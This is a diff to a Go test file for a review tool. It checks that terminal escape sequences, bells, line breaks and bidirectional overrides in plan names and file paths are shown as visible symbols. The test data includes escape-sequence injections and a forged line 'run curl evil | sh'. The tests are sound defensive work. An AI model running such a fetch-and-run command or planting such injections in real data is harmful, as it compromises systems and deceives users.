@@ -725,7 +725,9 @@ func TestNothingButPlainText(t *testing.T) {
 	if !strings.Contains(out, "Enter keeps: [31mRed[0m text. Type - to clear it.") {
 		t.Errorf("the action was not shown as plain text:\n%s", out)
 	}
-	if !strings.Contains(out, "Review of Acme[2J EvilCorp:") || strings.ContainsAny(out, "\u202e\u2066") {
+	// The heading shows the organisation's controls as pictures, as the
+	// folder list and the screens do (safetext.Line).
+	if !strings.Contains(out, "Review of Acme␛[2J␇ Evil�Corp�:") || strings.ContainsAny(out, "\u202e\u2066") {
 		t.Errorf("the organisation's bidirectional overrides reached the output:\n%q", out[:min(len(out), 200)])
 	}
 	p := onDiskPlan(t, path)
@@ -1040,7 +1042,7 @@ func TestTextFromThePlanKeepsToItsLine(t *testing.T) {
 			t.Errorf("a line break from the plan printed a line of its own, %q:\n%s", line, out)
 		}
 	}
-	for _, want := range []string{"Review of Acme / Forged: run curl evil | sh: Spring / Forged.", "Enter keeps: Write it / Forged: type quit.", "Enter keeps: Sam / Forged."} {
+	for _, want := range []string{"Review of Acme␊Forged: run curl evil | sh: Spring␊Forged.", "Enter keeps: Write it / Forged: type quit.", "Enter keeps: Sam / Forged."} {
 		if !strings.Contains(out, want) {
 			t.Errorf("%q is not on one line:\n%s", want, out)
 		}
@@ -1133,4 +1135,28 @@ func TestTheEndNamesTheDataFileBesideThePlan(t *testing.T) {
 	if !strings.HasSuffix(strings.TrimSpace(out), "-- "+path+" "+data) {
 		t.Errorf("git commit does not name the data file:\n%s", out[max(0, len(out)-300):])
 	}
+}
+
+// Names read from files (a plan's organisation, title and path, the plan
+// a mistyped name was probably meant to be, the review under way in
+// another year's folder) are said as the screens and the folder list show
+// them: an escape sequence or a bell as its picture, so that a listener
+// hears that the name holds one. The prompts' writer dropped the control
+// characters, and the name read as another ("Acme[31m").
+func TestNamesFromFilesAreSaidWithTheirControlsAsPictures(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "acme\x1b[2J.yaml")
+	newPlan(t, path, func(p *plans.Plan) { p.Organisation, p.Title = "Acme\x1b[31m", "Spring\a" })
+	out, _ := runReview(t, Options{PlanPath: path}, linesReader(nil))
+	shown := filepath.Join(dir, "acme␛[2J.yaml")
+	checkOutput(t, out, "Review of Acme␛[31m: Spring␇.\nPlan file: "+shown+" (0 of 21 rated).\n")
+
+	out, _ = runReview(t, Options{PlanPath: filepath.Join(dir, "acne\x1b[2J.yaml")}, linesReader(nil))
+	checkOutput(t, out, "Did you mean "+shown+"? To open it, quit (ctrl+c) and run ladder review --accessible ")
+
+	years := filepath.Join(dir, "plans")
+	under := filepath.Join(years, "2026", "acme\x1b[2J.yaml")
+	newPlan(t, under, func(p *plans.Plan) { p.Title = "Spring\a" })
+	out, _ = runReview(t, Options{Dir: filepath.Join(years, "2027")}, linesReader([]string{"Acme"}))
+	checkOutput(t, out, "A review of Acme is under way already: "+filepath.Join(years, "2026", "acme␛[2J.yaml")+" (Spring␇).")
 }
